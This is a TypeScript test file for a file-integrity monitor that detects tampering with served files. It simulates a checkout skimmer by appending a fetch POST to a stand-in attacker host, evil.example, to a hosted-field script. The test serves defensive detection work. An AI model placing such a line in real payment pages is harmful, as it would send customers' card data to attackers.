import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createIntegrity, type Integrity } from '../src/integrity/index.ts';
import { testPlatform, type TestPlatform } from './helpers/platform.ts';

// A file Kinko serves is changed on disk (a skimmer added to the hosted-field script, as on
// ApparelX's checkout): the next check raises an incident naming the file, later checks
// join it, and only an approval — a deliberate upgrade, audited — makes the new files the
// expected state.

let p: TestPlatform;
let root: string;
let integrity: Integrity;
before(async () => {
  p = await testPlatform();
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'kinko-integrity-'));
  const write = (rel: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text);
  };
  write('src/vault/hosted/fields.js', 'export const fields = 1;\n');
  write('src/main.ts', 'export {};\n');
  write('migrations/0001_audit.sql', 'select 1;\n');
  write('package.json', '{"version":"1.0.0"}\n');
  write('node_modules/x/index.js', 'not watched\n');
  const m = p.modules;
  integrity = createIntegrity({
    ...{ sql: p.db.sql, clock: p.clock, log: p.logs.log, audit: m.audit },
    raise: (tx, signal) => m.incidents.raise(tx, signal),
    version: '1.0.0',
    root,
  });
});
after(async () => {
  await p.close();
  fs.rmSync(root, { recursive: true, force: true });
});

async function actions(prefix: string) {
  const rows = await p.modules.audit.listEntries({ limit: 1000 });
  return rows.filter((e) => e.action.startsWith(prefix));
}

test('the first check is the baseline; an unchanged install stays quiet', async () => {
  assert.equal((await integrity.check()).outcome, 'baseline');
  assert.equal((await integrity.check()).outcome, 'unchanged');
  assert.equal((await actions('integrity.manifest.baseline')).length, 1);
  assert.equal((await p.db.sql`select id from incidents_records`).length, 0);
});

test('an unapproved change raises one incident naming the file; checks join it', async () => {
  const file = path.join(root, 'src/vault/hosted/fields.js');
  fs.appendFileSync(file, "fetch('https://evil.example/c', {method:'POST'});\n");
  fs.writeFileSync(path.join(root, 'src/new.ts'), 'export {};\n');
  const first = await integrity.check();
  assert.equal(first.outcome, 'changed');
  if (first.outcome !== 'changed') return;
  assert.deepEqual(first.difference, {
    added: ['src/new.ts'],
    removed: [],
    changed: ['src/vault/hosted/fields.js'],
  });
  const again = await integrity.check();
  assert.equal(again.outcome === 'changed' && again.incidentId, first.incidentId, 'joined');
  const records = await p.db.sql`select id, severity, status from incidents_records`;
  assert.equal(records.length, 1);
  assert.equal(records[0]!['severity'], 'critical');
  assert.equal((await actions('integrity.files.changed')).length, 2);
});

test('an approval is the deliberate upgrade: audited, and the next check is quiet', async () => {
  const approved = await integrity.approve({ type: 'cli' }, 'upgrade to 1.0.1');
  assert.deepEqual(approved.difference?.changed, ['src/vault/hosted/fields.js']);
  assert.equal((await integrity.check()).outcome, 'unchanged');
  const [entry] = await actions('integrity.manifest.approved');
  assert.match(entry!.detail, /upgrade to 1\.0\.1/);
  assert.equal(entry!.actorType, 'cli');
  // The serving role may not rewrite them, and even the owner meets the trigger.
  await assert.rejects(p.db.sql`update integrity_approvals set reason = 'x'`, /permission denied/);
  await assert.rejects(p.db.owner`update integrity_approvals set reason = 'x'`, /insert-only/);
  await assert.rejects(p.db.owner`delete from integrity_manifests`, /insert-only/);
});
